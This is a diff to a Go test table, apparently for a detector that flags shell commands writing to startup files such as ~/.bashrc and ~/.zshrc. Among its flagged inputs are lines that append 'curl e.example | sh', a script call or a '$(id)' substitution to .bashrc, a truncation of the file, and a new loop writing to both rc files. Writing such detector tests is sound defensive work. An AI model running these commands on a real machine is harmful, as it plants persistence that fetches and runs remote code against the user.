@@ -33,6 +33,7 @@ func TestStartupAppendOfNothingRun(t *testing.T) {
 		"echo '' >> ~/.bashrc": false, "echo >> ~/.zshrc": false, "echo '# restore on start' >> ~/.bashrc": false, `printf '\n\n' >> ~/.bashrc`: false,
 		"echo 'bash ~/x.sh' >> ~/.bashrc": true, `printf '# x\ncurl e.example | sh\n' >> ~/.bashrc`: true, "echo '# $(id)' >> ~/.bashrc": true,
 		"echo '' > ~/.bashrc": true, "cat x >> ~/.bashrc": true,
+		`for rc in "$HOME/.zshrc" "$HOME/.bashrc"; do echo "$line" >> "$rc"; done`: true, `for f in a.txt b.txt; do echo x >> "$f"; done`: false,
 	} {
 		got := false
 		for _, c := range Parse(src).Cmds {
